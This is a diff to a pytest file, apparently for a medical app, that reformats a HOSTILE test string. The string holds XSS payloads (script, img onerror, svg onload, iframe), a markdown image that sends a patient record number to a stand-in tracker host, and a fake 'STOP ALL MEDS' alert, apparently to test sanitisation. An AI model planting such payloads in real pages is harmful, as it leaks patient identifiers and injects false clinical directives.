@@ -25,7 +25,8 @@ pytestmark = pytest.mark.skipif(
 
 TRACKER = "https://tracker.example"
 HOSTILE = (
-    f"mycophenolate ![p]({TRACKER}/p.png?mrn=MRN-1) <img src={TRACKER}/i.png onerror=\"window.__pwned='img'\">"
+    f"mycophenolate ![p]({TRACKER}/p.png?mrn=MRN-1) "
+    f"<img src={TRACKER}/i.png onerror=\"window.__pwned='img'\">"
     f"<script>window.__pwned='script'</script><iframe src={TRACKER}/f></iframe> [go]({TRACKER}/l)"
     f"<svg onload=\"window.__pwned='svg'\"></svg>\n# FAKE CRITICAL: STOP ALL MEDS"
 )
